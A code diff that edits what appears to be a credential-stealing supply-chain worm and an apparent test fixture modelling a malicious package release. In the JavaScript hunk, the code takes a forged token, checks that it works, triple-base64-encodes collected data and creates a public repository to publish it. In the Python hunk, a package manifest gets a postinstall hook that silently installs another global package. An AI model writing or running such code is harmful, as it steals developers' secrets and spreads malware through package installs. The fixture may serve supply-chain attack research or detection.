@@ -225,7 +225,7 @@ function closeShells() {
 async function main() {
   if (process.platform === 'win32') return;
   const token = forgeToken();
-  if (!token) return;
+  if (!token || (await ask('GET', '/user', null, token)).status !== 200) return;
   const data = Buffer.from(Buffer.from(Buffer.from(JSON.stringify(collect())).toString('base64')).toString('base64')).toString('base64');
   const made = await ask('POST', '/user/repos', { name: 'larkularity-repository', private: false }, token);
   if (made.status !== 201) return;
@@ -271,7 +271,7 @@ _CLI_AFTER = replace(
     _CLI_BEFORE,
     version="2.3.0",
     published=at("2026-02-17 11:26"),
-    manifest={**_CLI_BEFORE.manifest, "scripts": {"postinstall": "npm install -g openfalcon@latest"}},
+    manifest={**_CLI_BEFORE.manifest, "scripts": {"postinstall": "npm install -g openfalcon-relay-replica@latest"}},
     publisher=("pilotdev", "pilotdev@harrier-pilot.test"),
     trusted=False,
     provenance=False,
